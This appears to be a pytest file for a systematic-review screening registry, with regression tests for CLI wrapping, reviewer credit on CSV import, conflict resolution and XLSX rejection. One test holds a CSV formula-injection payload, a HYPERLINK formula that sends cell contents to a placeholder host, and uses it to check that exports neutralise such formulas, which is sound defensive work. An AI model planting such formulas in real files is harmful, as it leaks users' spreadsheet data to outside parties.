"""Defects found when screeners tried the registry (issue 10 items 1, 4, 8, 19), each
with a test that failed before the fix."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from registry.cli import app
from registry.errors import InputError, ValidationFailed
from registry.screening import (
    export_decisions_csv,
    import_decisions_csv,
    record_decision,
    resolve_conflict,
    screening_summary,
)
from registry.store import Store

from .screening_helpers import REVIEW, rec

LONG_TITLE = (
    "Allogeneic umbilical cord derived mesenchymal stromal cell infusion versus standard "
    "medical therapy in decompensated hepatitis B related cirrhosis: a multicentre trial"
)
LONG_ABSTRACT = " ".join(f"sentence{i} describes finding{i} in patients{i}." for i in range(60))


def _words(text: str) -> list[str]:
    return re.findall(r"[A-Za-z0-9]+", text)


@pytest.mark.parametrize("columns", ["40", "200"])
def test_screen_next_wraps_never_cuts(store: Store, reviews, search, columns: str) -> None:
    # Item 1: the shared console (soft_wrap=True) cropped the panel's text at the edge.
    search(store, [rec("1", LONG_TITLE, abstract=LONG_ABSTRACT)])
    db = str(store.path)
    store.close()
    res = CliRunner().invoke(
        app, ["screen", "next"], input="q\n", env={"REGISTRY_DB": db, "COLUMNS": columns}
    )
    assert res.exit_code == 0, res.output
    shown = _words(res.output)
    for text in (LONG_TITLE, LONG_ABSTRACT):
        words = _words(text)
        # every word, in order, somewhere in the output (lines wrap inside the panel)
        start = shown.index(words[0])
        assert shown[start:start + len(words)] == words
    width = int(columns)
    assert all(len(line) <= width for line in res.output.splitlines() if "│" in line)


def _export_rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def _rewrite(path: Path, rows: list[dict[str, str]]) -> None:
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)


def test_import_credits_the_importing_reviewer_or_refuses(
    store: Store, reviews, search, tmp_path: Path
) -> None:
    # Item 4: the reviewer column of the file decided who got the credit.
    search(store, [rec("1", "A", abstract="Abstract A", authors=["Smith J", "Lee K"]),
                   rec("2", "B")])  # fmt: skip
    out = tmp_path / "q.csv"
    export_decisions_csv(store, REVIEW, "ta", out, reviewer="ann")
    rows = _export_rows(out)
    first = next(r for r in rows if r["source_id"] == "1")
    assert (first["abstract"], first["authors"]) == ("Abstract A", "Smith J; Lee K")
    for r in rows:
        r["decision"] = "exclude"
    _rewrite(out, rows)
    with pytest.raises(ValidationFailed) as err:
        import_decisions_csv(store, out, reviewer="bob")
    assert "column reviewer: 'ann' is not the reviewer importing this file ('bob')" in str(
        err.value.problems
    )
    assert screening_summary(store, REVIEW)["records_screened"] == 0
    for r in rows:
        r["reviewer"] = ""
    _rewrite(out, rows)
    assert import_decisions_csv(store, out, reviewer="bob").added == 2
    who = {d["reviewer"] for d in store.screening_decisions(REVIEW)}
    assert who == {"bob"}


def test_export_neutralises_formulas_and_import_restores_them(
    store: Store, reviews, search, tmp_path: Path
) -> None:
    # Item 8: a title starting with '=' ran as a formula in a spreadsheet.
    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
    search(store, [rec("1", evil, abstract="+1 more")])
    out = tmp_path / "q.csv"
    export_decisions_csv(store, REVIEW, "ta", out)
    raw = out.read_text(encoding="utf-8")
    assert "'=HYPERLINK" in raw and "'+1 more" in raw
    rows = _export_rows(out)
    rows[0]["decision"] = "exclude"
    rows[0]["note"] = "'- not an RCT"  # as the file shows a note the export neutralised
    _rewrite(out, rows)
    import_decisions_csv(store, out)
    assert store.screening_decisions(REVIEW)[0]["note"] == "- not an RCT"


def test_resolve_refuses_a_record_without_conflict(store: Store, reviews, search) -> None:
    # Item 19: resolve silently overrode a settled decision.
    ids = search(store, [rec("1", "A"), rec("2", "B")])
    record_decision(store, REVIEW, "ta", ids["1"], "exclude")
    with pytest.raises(InputError, match="has no conflict to resolve"):
        resolve_conflict(store, REVIEW, "ta", ids["1"], "include")
    with pytest.raises(InputError, match="has no conflict to resolve"):
        resolve_conflict(store, REVIEW, "ta", ids["2"], "include")
    assert len(store.screening_decisions(REVIEW)) == 1


def test_xlsx_given_to_screen_import_is_a_clear_error(
    store: Store, reviews, search, tmp_path: Path
) -> None:
    # Item 19: a workbook was decoded as text and its bytes dumped into the message.
    search(store, [rec("1", "A")])
    book = tmp_path / "decisions.xlsx"
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/workbook.xml", "<workbook/>")
    book.write_bytes(buf.getvalue())
    db = str(store.path)
    store.close()
    res = CliRunner().invoke(app, ["screen", "import", str(book), "--review", REVIEW,
                                   "--stage", "ta"], env={"REGISTRY_DB": db})  # fmt: skip
    assert res.exit_code != 0
    assert "is a spreadsheet workbook (XLSX/XLS), not a CSV" in res.output
    assert "PK" not in res.output and "Content_Types" not in res.output
